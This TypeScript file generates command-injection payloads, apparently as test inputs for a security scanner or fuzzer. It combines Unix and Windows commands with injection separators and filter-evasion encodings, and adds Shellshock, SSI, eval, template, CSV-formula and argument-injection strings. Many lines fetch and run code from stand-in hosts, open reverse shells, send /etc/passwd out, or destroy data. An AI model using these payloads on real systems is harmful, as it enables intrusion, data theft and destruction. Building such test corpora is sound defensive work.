import { Choices, type GeneratedText, linesOf, percentEncode } from "./random.ts";

const UNIX = linesOf(`
id
whoami
uname -a
ls
ls -la
ls -al /
dir
cat /etc/passwd
cat /etc/shadow
cat ../config.php
cat flag.txt
head -n 5 /etc/group
tail /var/log/auth.log
more /etc/hosts
tac /etc/passwd
nl /etc/passwd
od -c /etc/passwd
rev /etc/passwd
sort /etc/passwd
strings /bin/ls
base64 /etc/passwd
grep root /etc/passwd
find / -name x
ps aux
ps -ef
netstat -an
ifconfig
ifconfig -a
ip addr
hostname
env
printenv
pwd
who
w
last
sleep 10
sleep 5s
ping -c 10 127.0.0.1
ping -c 3 evil.example
ping -n 5 127.0.0.1
nslookup evil.example
dig evil.example
host evil.example
curl http://evil.example/
curl evil.example
curl -s http://evil.example/x.sh | bash
wget http://evil.example/x
wget -q -O - evil.example|sh
nc -e /bin/sh 203.0.113.7 4444
nc -lvp 4444
ncat 203.0.113.7 4444 -e /bin/bash
bash -i >& /dev/tcp/203.0.113.7/4444 0>&1
sh -c id
/bin/sh -c id
/bin/bash -c 'id'
/usr/bin/id
/bin/cat /etc/passwd
/bin/ls -al
/sbin/ifconfig
python -c 'import os;os.system("id")'
python3 -c "print(1)"
perl -e 'print 1'
perl -e 'system("id")'
ruby -e 'puts 1'
php -r 'phpinfo();'
node -e 'process.exit()'
awk 'BEGIN{system("id")}'
touch /tmp/x
rm -rf /
rm x.txt
chmod 777 /tmp/x
mkdir /tmp/a
cp /etc/passwd /tmp
mv a b
kill -9 1
echo ABCDE
echo $((41+1))
echo $(id)
echo 'x' > /tmp/y
echo \`id\`
printf x
expr 41 + 1
mail a@evil.example < /etc/passwd
telnet 203.0.113.7 80
ssh a@203.0.113.7
scp /etc/passwd a@evil.example:
ftp 203.0.113.7
useradd x
sudo id
su -
crontab -l
mknod /tmp/p p
export X=1
set
history
lsof -i
mount
df -h
free -m
uptime
date
shutdown now
reboot
exit
xterm -display 203.0.113.7:0
vi /etc/passwd
cut -d: -f1 /etc/passwd
sed -n 1p /etc/passwd
tee /tmp/x
xxd /etc/passwd
diff /etc/passwd /dev/null
tar cf - /etc
busybox nc 203.0.113.7 1 -e sh
socat tcp:203.0.113.7:1 exec:sh
openssl s_client -connect 203.0.113.7:1
timeout 5 id
str=$(echo ABC);if [ 3 -ne \${#str} ];then sleep 0;else sleep 1;fi
`);

const WINDOWS = linesOf(`
dir
dir c:\\
dir /s c:\\users
type c:\\boot.ini
type c:\\windows\\win.ini
type %SYSTEMROOT%\\win.ini
whoami
whoami /all
ipconfig
ipconfig /all
net user
net user x y /add
net view
net start
net localgroup administrators x /add
netstat -an
tasklist
taskkill /f /im x.exe
systeminfo
ver
set
hostname
arp -a
route print
ping -n 10 127.0.0.1
ping 127.0.0.1
nslookup evil.example
tracert evil.example
cmd
cmd /c dir
cmd.exe /c whoami
cmd /c echo x
powershell -c whoami
powershell -nop -exec bypass -enc SQBFAFgA
powershell.exe Get-Process
powershell iwr http://evil.example/x -o x.exe
certutil -urlcache -split -f http://evil.example/x x
bitsadmin /transfer a http://evil.example/x c:\\x
wmic process list
reg query HKLM
sc query
schtasks /create /tn x /tr y
rundll32 \\\\203.0.113.7\\x,0
regsvr32 /s /u /i:http://evil.example/x scrobj.dll
mshta http://evil.example/x.hta
cscript x.vbs
echo %USERNAME%
echo %PATH%
echo %OS%
del c:\\x.txt
copy a b
attrib -h x
start calc.exe
timeout /t 5
for /f "delims=" %i in ('whoami') do echo %i
for /l %i in (1,1,5) do ping 127.0.0.1
c:\\windows\\system32\\cmd.exe /c dir
c:\\windows\\system32\\ping.exe 127.0.0.1
rd /s /q c:\\x
if exist c:\\boot.ini echo x
`);

/** How a command is joined to what stands before and after it; `$` marks its place. */
const UNIX_JOINTS = (
  "; $¦;$¦;$;¦; $ ;¦| $¦|$¦|$|¦|| $¦||$¦&& $¦&&$¦& $ &¦&$&¦`$`¦$($)¦\n$¦\n$\n¦x; $¦" +
  "1;$¦a.png;$¦a|$¦127.0.0.1; $¦127.0.0.1 && $¦127.0.0.1|$¦';$;'¦'; $ #¦\";$;\"¦" +
  "\"; $ #¦'|$|'¦\"|$¦');$;('¦$;¦x`$`¦x$($)¦\"$($)\"¦'$($)'¦a)\n$¦;$ #¦|$ #¦& $¦>(  $ )¦" +
  "{$}"
).split("¦");
const WINDOWS_JOINTS = (
  '& $¦&$¦&$&¦| $¦|$¦|| $¦&& $¦x & $¦1&$¦x|$¦"&$&"¦" & $¦\'& $ &\'¦; $¦127.0.0.1 & $¦' + "127.0.0.1|$¦\n$¦^&$"
).split("¦");

const firstWord = (text: string, change: (word: string) => string): string =>
  text.replace(/[a-z]{2,}/, change);

const UNIX_DISGUISES: readonly ((text: string) => string)[] = [
  (text) => text.replaceAll(" ", "${IFS}"),
  (text) => text.replaceAll(" ", "$IFS$9"),
  (text) => text.replaceAll(" ", "\t"),
  (text) => firstWord(text, (word) => `${word[0]}''${word.slice(1)}`),
  (text) => firstWord(text, (word) => `${word[0]}""${word.slice(1)}`),
  (text) => firstWord(text, (word) => `'${word[0]}'${word.slice(1)}`),
  (text) => firstWord(text, (word) => `"${word[0]}"${word.slice(1)}`),
  (text) => firstWord(text, (word) => `${word[0]}\\${word.slice(1)}`),
  (text) => firstWord(text, (word) => `${word[0]}$@${word.slice(1)}`),
  (text) => firstWord(text, (word) => `${word[0]}$()${word.slice(1)}`),
  (text) => firstWord(text, (word) => `${word[0]}\`\`${word.slice(1)}`),
  (text) => firstWord(text, (word) => `${word[0]}\${x}${word.slice(1)}`),
  (text) => text.replace(/^(\w+) (\S+)$/, "{$1,$2}"),
  (text) => text.replace(/^(\w+) (\S+)$/, "$1<$2"),
  (text) => text.replace("/etc/passwd", "/e?c/p?sswd").replace("/bin/", "/???/"),
  (text) => text.replace("/etc/passwd", "/etc/pass*").replace("cat", "/bin/c?t"),
  (text) => percentEncode(text),
  (text) => percentEncode(percentEncode(text)),
];
const WINDOWS_DISGUISES: readonly ((text: string) => string)[] = [
  (text) => firstWord(text, (word) => word.split("").join("^")),
  (text) => firstWord(text, (word) => `${word[0]}""${word.slice(1)}`),
  (text) => text.toUpperCase(),
  (text) => percentEncode(text),
];

/** Commands by other ways than a separator: substitution in templates, interpreters, known holes. */
const WHOLE = linesOf(`
() { :;}; echo vulnerable
() { :; }; /bin/bash -c 'cat /etc/passwd'
() { _; } >_[$($())] { echo x; }
\${IFS}cat\${IFS}/etc/passwd
cat$IFS/etc/passwd
cat\${IFS}/etc/passwd
{cat,/etc/passwd}
{ls,-la}
/???/??t /???/p??s??
/bin/c?t /etc/p?sswd
/???/c?t${"$"}{IFS}/etc/passwd
cat</etc/passwd
cat /etc/passwd
cat /e*c/p*d
ping -c 10 127.0.0.1
ping -i 30 127.0.0.1
/bin/ls -al
/usr/bin/id
/usr/bin/id|
|/usr/bin/id
|usr/bin/id
;/usr/bin/id;
|/bin/ls -al
a;/usr/bin/id
a);/usr/bin/id
a);id;
a|id
a;id
$;/usr/bin/id
\`/usr/bin/id\`
"|id"
\nid
\ncat /etc/passwd
\n/bin/ls -al\n
\nnetstat -a%\n
\nping -i 30 127.0.0.1\n
;netstat -a;
;system('cat%20/etc/passwd')
;system('id')
;phpinfo();
;exec('id')
system('cat /etc/passwd');
<!--#exec cmd="/bin/cat /etc/passwd"-->
<!--#exec cmd="id" -->
<!--#include file="/etc/passwd"-->
<!--#include virtual="/etc/passwd"-->
<!--#echo var="DATE_LOCAL" -->
$(sleep 5)
$(ping -c 1 evil.example)
\`sleep 5\`
\`curl evil.example\`
$(curl http://evil.example/?\`whoami\`)
$(nslookup evil.example)
$(printf 'id')
$(echo id|sh)
echo aWQ= | base64 -d | sh
echo "aWQK" | base64 -d | bash
echo -e "\\x69\\x64"|sh
$(tr 'a-z' 'b-{'<<<'hc')
$'\\x69\\x64'
;$'cat' /etc/passwd
a=i;b=d;$a$b
;a=c;b=at;$a$b /etc/passwd
w'h'o'am'i
;w"h"o"am"i
;who$@ami
;who\\ami
;$0<<<id
;bash<<<id
;bash<<<$(base64 -d<<<aWQ=)
echo $HOME
echo $PATH
;echo $SHELL
$HOME
\${PATH:0:1}etc\${PATH:0:1}passwd
cat \${HOME:0:1}etc\${HOME:0:1}passwd
;cat \${HOME:0:1}etc/passwd
eval "$(echo id)"
__import__('os').system('id')
__import__("subprocess").check_output("id")
os.system('id')
import os; os.system("ls")
eval(compile('import os','x','exec'))
require('child_process').exec('id')
require('child_process').execSync('cat /etc/passwd').toString()
process.mainModule.require('child_process').execSync('id')
global.process.mainModule.constructor._load('child_process').execSync('id')
this.constructor.constructor('return process')().exit()
Runtime.getRuntime().exec("id")
new java.lang.ProcessBuilder("id").start()
IO.popen('id').read
%x(id)
Kernel.exec("id")
exec("id")
shell_exec('id');
passthru("id");
\${@system('id')}
{\${system('id')}}
\${\${eval($_GET[1])}}
assert('phpinfo()')
eval('phpinfo();');
preg_replace('/a/e','phpinfo()','a')
;powershell -enc SQBFAFgA
powershell -c "IEX(New-Object Net.WebClient).DownloadString('http://evil.example/a')"
%COMSPEC% /c dir
cmd.exe /c dir
cmd /c whoami
|cmd.exe /c dir
%SYSTEMROOT%\\system32\\cmd.exe /c dir
\\\\203.0.113.7\\share\\x.exe
=cmd|'/c calc'!A0
=cmd|' /C notepad'!'A1'
@SUM(1+1)*cmd|' /C calc'!A0
=HYPERLINK("http://evil.example?x="&A1,"x")
GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)
ifconfig;id
1;sleep 5
1|sleep 5
1&&sleep 5
1||sleep 5
1\`sleep 5\`
1$(sleep 5)
'1;sleep 5;'
x||ping -i 5 127.0.0.1||
x' || sleep 5 || '
|| sleep 5 ||
& sleep 5 &
x;sleep 5 #
-1 || ping -c 5 127.0.0.1
$(wget -qO- http://evil.example)
>/tmp/x
; > /tmp/x
| tee /tmp/x
foo; touch /tmp/pwn
foo$(touch /tmp/pwn)
foo\`touch /tmp/pwn\`
--use-compress-program=id
-oProxyCommand=id
--checkpoint-action=exec=sh x.sh
`);

/** Injected commands: every whole value, and `count` of Unix and of Windows joined to a value. */
export function generateCommands(count: number, seed = 3): readonly GeneratedText[] {
  const choices = new Choices(seed);
  const texts: GeneratedText[] = WHOLE.map((text) => ({ core: text, text: text.replaceAll("\\n", "\n") }));
  const add = (
    commands: readonly string[],
    joints: readonly string[],
    disguises: typeof UNIX_DISGUISES,
  ): void => {
    for (let made = 0; made < count; made += 1) {
      const command = commands[made % commands.length]!;
      const disguised = choices.integer(3) > 0 ? command : choices.one(disguises)(command);
      // A replacement of a function: the command holds dollar signs of its own.
      texts.push({
        core: command,
        text: choices.one(joints).replace(/\$(?!\()|(?<=\$\()\$/, () => disguised),
      });
    }
  };
  add(UNIX, UNIX_JOINTS, UNIX_DISGUISES);
  add(WINDOWS, WINDOWS_JOINTS, WINDOWS_DISGUISES);
  return texts;
}
